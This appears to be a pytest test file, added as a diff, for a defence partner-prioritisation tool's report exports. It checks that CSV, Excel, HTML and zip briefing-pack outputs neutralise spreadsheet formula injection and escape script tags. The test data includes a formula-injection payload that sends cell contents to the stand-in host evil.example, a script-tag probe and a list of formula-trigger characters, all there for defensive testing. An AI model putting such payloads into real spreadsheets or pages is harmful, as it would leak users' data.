@@ -1,0 +1,308 @@
+"""Exports are formula-injection safe, keep numbers numeric and open in Excel; the pack is complete."""
+
+from __future__ import annotations
+
+import io
+import math
+import zipfile
+
+import altair as alt
+import numpy as np
+import pandas as pd
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from openpyxl import load_workbook
+
+from prioritizer import report as R
+from prioritizer.charts import ChartMeta, ranking_bar
+from prioritizer.errors import InputError
+
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+PNG_MAGIC = b"\x89PNG\r\n\x1a\n"
+
+
+def _is_safe(text: str) -> bool:
+    assert set(TRIGGERS) <= set(R.FORMULA_TRIGGERS)  # at least the OWASP list
+    return not text.startswith(R.FORMULA_TRIGGERS) and not text.lstrip(" ").startswith(R.FORMULA_TRIGGERS)
+
+
+@pytest.fixture()
+def scores() -> pd.DataFrame:
+    return pd.DataFrame({
+        "name": [EVIL, "Côte d’Ivoire", "Norway", "-Minus land", "@Home", "Türkiye"],
+        "command": ["AFRICOM", "AFRICOM", "EUCOM", "EUCOM", "CENTCOM", "EUCOM"],
+        "propensity": [71.5, 55.25, 88.0, 40.0, 30.0, np.nan],
+        "rank": [2, 3, 1, 4, 5, np.nan],
+        "quadrant": ["invest", "opportunity", "invest", "deprioritise", "manage expectations", None],
+        "low_confidence": [False, True, False, False, True, False],
+        "change_usd_m": [-3.5, 2.0, 0.0, -1.25, 4.0, 0.0],
+    }, index=pd.Index(["EVL", "CIV", "NOR", "MIN", "HOM", "TUR"], name="partner_id"))
+
+
+# --- sanitising ----------------------------------------------------------------------------------------
+@given(st.text())
+def test_sanitised_text_never_starts_with_a_formula_trigger(text):
+    out = R.sanitise_cell(text)
+    assert isinstance(out, str)
+    assert _is_safe(out) or out == ""
+    # Only ever a single quote prefixed; safe text is untouched.
+    assert out in (text, "'" + text)
+    if not text.lstrip(" ").startswith(R.FORMULA_TRIGGERS):
+        assert out == text
+    else:
+        assert out == "'" + text
+
+
+@given(st.one_of(st.integers(), st.floats(allow_nan=True, allow_infinity=True), st.booleans()))
+def test_numbers_are_unchanged(x):
+    out = R.sanitise_cell(x)
+    assert type(out) is type(x)
+    assert out == x or (isinstance(x, float) and math.isnan(x) and math.isnan(out))
+
+
+@given(st.lists(st.tuples(st.text(max_size=20), st.floats(allow_nan=False, width=32)), min_size=1, max_size=20))
+def test_sanitise_frame_keeps_numeric_columns_numeric(rows):
+    df = pd.DataFrame(rows, columns=["=name", "value"])
+    out = R.sanitise_frame(df)
+    assert list(out.columns) == ["'=name", "value"]
+    assert out["value"].dtype == df["value"].dtype
+    pd.testing.assert_series_equal(out["value"], df["value"])
+    assert all(_is_safe(v) or v == "" for v in out["'=name"])
+    assert df.columns[0] == "=name", "input not modified"
+
+
+def test_specific_cells():
+    assert R.sanitise_cell("=1+1") == "'=1+1"
+    assert R.sanitise_cell("+49 30 1234") == "'+49 30 1234"
+    assert R.sanitise_cell("-3") == "'-3"  # text that looks like a number is still text
+    assert R.sanitise_cell("@SUM(A1)") == "'@SUM(A1)"
+    assert R.sanitise_cell("\t=cmd") == "'\t=cmd"
+    assert R.sanitise_cell("\r=cmd") == "'\r=cmd"
+    assert R.sanitise_cell("  =1+1") == "'  =1+1"
+    assert R.sanitise_cell("Norway") == "Norway"
+    assert R.sanitise_cell("") == ""
+    assert R.sanitise_cell(-3.5) == -3.5
+    assert R.sanitise_cell(None) is None
+    assert R.sanitise_cell(np.float64(-2.0)) == -2.0
+
+
+# --- CSV ---------------------------------------------------------------------------------------------
+def test_csv_has_bom_utf8_index_and_is_neutralised(scores):
+    data = R.to_csv_bytes(scores)
+    assert data.startswith(b"\xef\xbb\xbf")
+    text = data.decode("utf-8-sig")
+    back = pd.read_csv(io.StringIO(text), keep_default_na=False)
+    assert list(back.columns[:2]) == ["partner_id", "name"]
+    assert back.loc[0, "name"] == "'" + EVIL
+    assert "Côte d’Ivoire" in set(back["name"]) and "Türkiye" in set(back["name"])
+    assert back.loc[3, "name"] == "'-Minus land"
+    assert back["change_usd_m"].tolist() == [-3.5, 2.0, 0.0, -1.25, 4.0, 0.0]  # negatives stay numbers
+    assert "\r\n" in text
+    for line in text.splitlines()[1:]:
+        for cell in line.split(","):
+            assert not cell.startswith(("=", "+", "@")), cell
+
+
+# --- Excel -------------------------------------------------------------------------------------------
+def _sheets(scores: pd.DataFrame) -> dict[str, pd.DataFrame]:
+    alloc = pd.DataFrame({"partner_id": ["NOR", "EVL"], "name": ["Norway", EVIL],
+                          "baseline_usd_m": [10.0, 2.5], "recommended_usd_m": [12.25, 1.0],
+                          "locked": [True, False], "n_mechanisms": [3, 1]})
+    return {
+        "Rankings": scores,
+        "Allocation": alloc,
+        "Bullish-bearish": pd.DataFrame({"command": ["EUCOM"], "side": ["bullish"], "rank": [1],
+                                         "partner_id": ["NOR"], "name": ["Norway"], "change_usd_m": [2.25],
+                                         "rationale": ["-strong governance; =shared interests"]}),
+        "Indicators & sources": pd.DataFrame({"indicator_id": ["wgi_ge"], "source": ["World Bank WGI"],
+                                              "year": [2023]}),
+        "Scenario settings": R.scenario_settings_frame({"budget_usd_m": 1500, "weights": {"governance": 0.3}}),
+        "Overrides": pd.DataFrame({"partner_id": ["XYZ"], "construct": ["alignment"], "value": [80.0],
+                                   "rationale": ["+planner judgement"]}),
+        "A very long sheet name that Excel would reject": pd.DataFrame({"a": [1]}),
+        "Bad/name?[x]": pd.DataFrame({"a": [2]}),
+    }
+
+
+def test_workbook_round_trip(scores):
+    sheets = _sheets(scores)
+    data = R.workbook_bytes(sheets, {"Data sources": "World Bank WGI; V-Dem v14"},
+                            meta=ChartMeta(scenario="FY26 baseline", date="2025-01-02", marking="UNCLASSIFIED"))
+    wb = load_workbook(io.BytesIO(data))
+    names = wb.sheetnames
+    assert names[:7] == ["About", "Rankings", "Allocation", "Bullish-bearish", "Indicators & sources",
+                         "Scenario settings", "Overrides"]
+    assert all(len(n) <= 31 for n in names) and len(names) == 9
+    assert names[7] == "A very long sheet name that Exc"
+    assert names[8] == "Bad-name--x-"
+
+    ws = wb["Rankings"]
+    header = [c.value for c in ws[1]]
+    assert header[:4] == ["partner_id", "name", "command", "propensity"]
+    assert all(c.font.bold for c in ws[1])
+    assert ws.freeze_panes == "A2"
+    assert ws.auto_filter.ref.startswith("A1:")
+    assert ws["B2"].value == "'" + EVIL and ws["B2"].data_type == "s"
+    assert ws["B5"].value == "'-Minus land"
+    assert ws["D2"].value == 71.5 and ws["D2"].data_type == "n"
+    assert ws["D7"].value is None  # NaN → empty cell, not the text "nan"
+    assert ws["H2"].value == -3.5 and isinstance(ws["H2"].value, float)
+    assert ws["G3"].value is True
+    assert ws.column_dimensions["B"].width > ws.column_dimensions["C"].width
+    assert ws.max_row == len(scores) + 1  # no title row above the header
+
+    alloc = wb["Allocation"]
+    assert [c.value for c in alloc[2]] == ["NOR", "Norway", 10.0, 12.25, True, 3]
+    assert isinstance(alloc["F2"].value, int)
+    assert wb["Bullish-bearish"]["G2"].value == "'-strong governance; =shared interests"
+
+    # No formula anywhere in the workbook.
+    for sheet in wb.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate)
+
+    about = {r[0]: r[1] for r in wb["About"].iter_rows(values_only=True) if r[0]}
+    assert about["Scenario"] == "FY26 baseline" and about["Date"] == "2025-01-02"
+    assert about["Marking"] == "UNCLASSIFIED" and about["Data sources"].startswith("World Bank")
+    first = wb["About"]["A1"].value
+    last = wb["About"].cell(row=wb["About"].max_row, column=1).value
+    assert first == last == "UNCLASSIFIED"
+
+
+def test_workbook_notes_override_meta_and_default_sources(scores):
+    data = R.workbook_bytes({"Indicators & sources": pd.DataFrame({"a": [1]})},
+                            {"Scenario": "From notes", "Marking": "CUI"})
+    about = {r[0]: r[1] for r in load_workbook(io.BytesIO(data))["About"].iter_rows(values_only=True) if r[0]}
+    assert about["Scenario"] == "From notes" and about["Marking"] == "CUI"
+    assert "Indicators & sources" in about["Data sources"]
+
+
+def test_workbook_rejects_non_tables():
+    with pytest.raises(InputError, match="Rankings"):
+        R.workbook_bytes({"Rankings": [1, 2, 3]})  # type: ignore[dict-item]
+
+
+def test_scenario_settings_frame_flattens():
+    df = R.scenario_settings_frame({
+        "profile": "default", "budget_usd_m": 1500.5,
+        "weights": {"governance": 0.3, "stability": {"fragility": 0.5}},
+        "filters": {"commands": ["AFRICOM", "EUCOM"], "types": []},
+        "overrides": [{"partner_id": "XYZ", "construct": "alignment", "value": 80}],
+        "note": None, "flag": np.bool_(True),
+    })
+    rows = dict(zip(df["setting"], df["value"], strict=True))
+    assert rows["profile"] == "default" and rows["budget_usd_m"] == 1500.5
+    assert rows["weights.governance"] == 0.3 and rows["weights.stability.fragility"] == 0.5
+    assert rows["filters.commands"] == "AFRICOM, EUCOM" and rows["filters.types"] == ""
+    assert rows["overrides[0].partner_id"] == "XYZ" and rows["overrides[0].value"] == 80
+    assert rows["note"] == "" and rows["flag"] is True
+
+
+# --- comparisons -------------------------------------------------------------------------------------------
+def test_compare_rankings():
+    a = pd.DataFrame({"name": ["N", "F", "G"], "rank": [1, 2, 3], "propensity": [90.0, 80, 70]},
+                     index=pd.Index(["NOR", "FRA", "GER"], name="partner_id"))
+    b = pd.DataFrame({"name": ["N", "F", "X"], "rank": [2, 1, 3], "propensity": [85.0, 88, 60]},
+                     index=pd.Index(["NOR", "FRA", "XXX"], name="partner_id"))
+    out = R.compare_rankings(a, b)
+    assert out.loc["FRA", "rank_shift"] == 1 and out.loc["NOR", "rank_shift"] == -1
+    assert out.loc["FRA", "propensity_change"] == 8 and out.loc["NOR", "propensity_change"] == -5
+    assert out.loc["GER", "note"] == "only in A" and out.loc["XXX", "note"] == "only in B"
+    assert np.isnan(out.loc["GER", "rank_b"])
+    assert set(out.index[:2]) == {"FRA", "NOR"}
+    with pytest.raises(InputError, match="scenario B"):
+        R.compare_rankings(a, b.drop(columns="rank"))
+
+
+def test_compare_allocations_by_index_and_long_rows():
+    a = pd.DataFrame({"name": ["N", "F"], "recommended_usd_m": [10.0, 5.0]}, index=["NOR", "FRA"])
+    b = pd.DataFrame({"partner_id": ["NOR", "NOR", "GER"], "mechanism": ["PME", "FMF", "PME"],
+                      "recommended_usd_m": [4.0, 8.0, 3.0]})
+    out = R.compare_allocations(a, b)
+    assert out.loc["NOR", "usd_m_b"] == 12.0 and out.loc["NOR", "delta_usd_m"] == 2.0
+    assert out.loc["FRA", "usd_m_b"] == 0.0 and out.loc["FRA", "delta_usd_m"] == -5.0
+    assert out.loc["GER", "usd_m_a"] == 0.0 and out.loc["GER", "delta_usd_m"] == 3.0
+    assert out.index[0] == "FRA"  # largest change first
+    assert out.loc["NOR", "name"] == "N"
+
+
+# --- summary -------------------------------------------------------------------------------------------
+def _bullbear() -> pd.DataFrame:
+    return pd.DataFrame({
+        "command": ["EUCOM", "EUCOM", "AFRICOM"], "side": ["bullish", "bearish", "bullish"], "rank": [1, 1, 1],
+        "partner_id": ["NOR", "MIN", "CIV"], "name": ["Norway", "-Minus land", "Côte d’Ivoire"],
+        "change_usd_m": [2.5, -1.25, 0.75], "rationale": ["strong governance"] * 3,
+    })
+
+
+def test_summary_text_contents(scores):
+    md = R.summary_text(scores, _bullbear(), {"budget_usd_m": 1500, "baseline_usd_m": 1400.0,
+                                              "recommended_usd_m": 1500.0},
+                        meta=ChartMeta(title="Weekly what-if", scenario="FY26 *bold* test", date="2025-02-03"),
+                        top_n=3)
+    lines = md.strip().splitlines()
+    assert lines[0] == "UNCLASSIFIED" and lines[-1] == "UNCLASSIFIED"
+    assert "FY26 \\*bold\\* test" in md and "2025-02-03" in md
+    assert md.index("1. **Norway**") < md.index("2. **=HYPERLINK") < md.index("3. **Côte d’Ivoire**")
+    assert "4. " not in md.split("## Priority")[0]  # top_n respected
+    assert "Low confidence" in md and "2 partners" in md
+    assert "1 without a score" in md
+    assert "- **Invest** (high priority, high propensity): 2 partners" in md
+    assert "- Budget: $1,500.0M" in md and "- Change vs baseline: +$100.0M" in md
+    assert "**EUCOM** — bullish Norway (+$2.5M); bearish -Minus land (−$1.2M)" in md
+    assert "**AFRICOM** — bullish Côte d’Ivoire (+$0.8M)" in md
+
+
+def test_summary_rounding_and_plurals():
+    scores = pd.DataFrame({"name": ["Solo"], "propensity": [50.0], "rank": [1], "quadrant": ["invest"],
+                           "low_confidence": [True]}, index=["S"])
+    md = R.summary_text(scores, allocation_totals={"baseline_usd_m": 100.0, "recommended_usd_m": 99.99})
+    assert "1 partner scored" in md and "1 partner —" in md and "1 partner, namely Solo" in md
+    assert "- Change vs baseline: ±$0.0M" in md and "−$0.0M" not in md
+
+
+def test_markdown_to_html_escapes_everything():
+    md = R.summary_text(pd.DataFrame({"name": ["<script>alert(1)</script>"], "propensity": [50.0],
+                                      "rank": [1]}, index=["X"]))
+    page = R.markdown_to_html(md, marking="UNCLASSIFIED")
+    assert "<script>" not in page and "&lt;script&gt;" in page
+    assert page.count('<p class="marking">UNCLASSIFIED</p>') == 2
+    assert "<li>" in page and "<h1>" in page and "http" not in page
+
+
+# --- briefing pack -------------------------------------------------------------------------------------
+def test_briefing_pack_contents(scores):
+    meta = ChartMeta(title="pack", scenario="FY26 baseline", date="2025-02-03", marking="UNCLASSIFIED//TEST")
+    chart_scores = scores.assign(name=["A", "B", "C", "D", "E", "F"])
+    charts: dict[str, alt.TopLevelMixin] = {
+        "Propensity ranking": ranking_bar(chart_scores, top_n=5),
+        "Command split": alt.Chart(pd.DataFrame({"c": ["EUCOM", "AFRICOM"], "v": [2.0, 3.0]}))
+        .mark_bar().encode(x="v:Q", y="c:N"),
+    }
+    workbook = R.workbook_bytes({"Rankings": scores}, meta=meta)
+    md = R.summary_text(scores, _bullbear(), meta=meta)
+    blob = R.briefing_pack(charts, workbook, md, meta)
+    zf = zipfile.ZipFile(io.BytesIO(blob))
+    assert zf.testzip() is None
+    names = set(zf.namelist())
+    assert {"charts/01_propensity_ranking.png", "charts/01_propensity_ranking.svg",
+            "charts/02_command_split.png", "charts/02_command_split.svg",
+            "summary.md", "summary.html", "README.txt",
+            "partner_prioritizer_fy26_baseline_2025-02-03.xlsx"} == names
+    for n in names:
+        if n.endswith(".png"):
+            assert zf.read(n).startswith(PNG_MAGIC)
+        if n.endswith(".svg"):
+            svg = zf.read(n).decode("utf-8")
+            assert svg.count(">UNCLASSIFIED//TEST</text>") == 2
+            assert "Scenario: FY26 baseline" in svg and "2025-02-03" in svg
+    assert ">Propensity ranking</text>" in zf.read("charts/01_propensity_ranking.svg").decode()
+    assert zf.read("summary.md").decode("utf-8") == md
+    assert "FY26 baseline" in zf.read("summary.html").decode("utf-8")
+    wb = load_workbook(io.BytesIO(zf.read("partner_prioritizer_fy26_baseline_2025-02-03.xlsx")))
+    assert wb.sheetnames == ["About", "Rankings"]
+    readme = zf.read("README.txt").decode()
+    assert readme.startswith("UNCLASSIFIED//TEST") and "summary.html" in readme
